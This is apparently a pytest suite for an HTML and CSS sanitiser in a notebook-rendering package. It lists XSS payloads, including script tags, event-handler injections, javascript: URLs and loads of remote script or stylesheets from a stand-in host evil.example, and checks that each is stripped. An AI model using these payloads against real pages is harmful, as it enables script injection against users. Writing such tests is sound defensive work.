"""Hostile HTML: nothing runs, nothing is loaded, nothing leaves its place."""

from __future__ import annotations

import pytest

from mlops_magics.notebooks import sanitising

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style></style><script>alert(1)</script></style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p style='x\" onmouseover=alert(1) y'>x</p>",
    "<img src='https://evil.example/pixel.gif'>",
    "<video src=x onerror=alert(1)></video>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile(html: str) -> None:
    import bs4

    cleaned = sanitising.clean(html, "s")
    soup = bs4.BeautifulSoup(cleaned, "html.parser")
    for element in soup.find_all(True):
        assert element.name in {*sanitising.TAGS, "style", "lineargradient", "clippath"}
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on")
            assert name not in {"srcdoc", "action", "formaction", "data"}
            if name in {"href", "src"}:
                assert "script" not in value.lower()
                assert "evil" not in value
    for sheet in soup.find_all("style"):
        assert "@import" not in sheet.get_text()
        assert "<" not in sheet.get_text()


def test_what_a_record_needs_stays() -> None:
    html = (
        '<div class="mlops"><style>.mlops td{color:red}</style><table><tr><td colspan="2" '
        'style="text-align:right">1</td></tr></table><svg viewBox="0 0 10 10" width="10">'
        '<path d="M0 0L1 1" stroke="currentColor"></path></svg>'
        '<img src="data:image/png;base64,AAAA" alt="p"><a href="https://example.org">x</a></div>'
    )
    cleaned = sanitising.clean(html, "s")
    for kept in (
        'colspan="2"',
        "text-align:right",
        'viewBox="0 0 10 10"',
        'd="M0 0L1 1"',
        "data:image/png;base64,AAAA",
        'href="https://example.org"',
        "#s :is(.mlops td){color:red}",
    ):
        assert kept in cleaned


@pytest.mark.parametrize(
    ("sheet", "scoped"),
    [
        ("p{color:red}", "#s :is(p){color:red}"),
        ("p,b{x:y}", "#s :is(p,b){x:y}"),
        ("@media print{p{x:y}}", "@media print{#s :is(p){x:y}}"),
        ("@import url(x);", ""),
        ("@font-face{src:url(x)}", ""),
        ("p){} body{display:none", ""),
        ("}body{display:none}", ""),
        ("</style><script>", ""),
        ("p{color:red}} body{display:none}", "#s :is(p){color:red}"),
        ("p{x:y} :is(a{}) body{x:y", "#s :is(p){x:y}"),
        ("p{body:has(&){display:none}}", ""),
        ("p{background:url(x\\ny)}", ""),
        ("b[title='\n{}']{x:y}", ""),
    ],
)
def test_styles_stay_in_their_place(sheet: str, scoped: str) -> None:
    result = sanitising.scope_style(sheet, "s")
    assert result.startswith(scoped)
    assert "<" not in result
    # No rule begins outside the scope.
    for rule in result.replace("@media print{", "").split("}"):
        assert not rule.strip() or rule.strip().startswith("#s :is(")


@pytest.mark.parametrize(
    ("html", "visible"),
    [
        ("<style>p{}</style>", False),
        ("<div><p> </p></div>", False),
        ("<p>x</p>", True),
        ("<svg></svg>", True),
        ("", False),
    ],
)
def test_is_visible(html: str, visible: bool) -> None:
    assert sanitising.is_visible(html) == visible
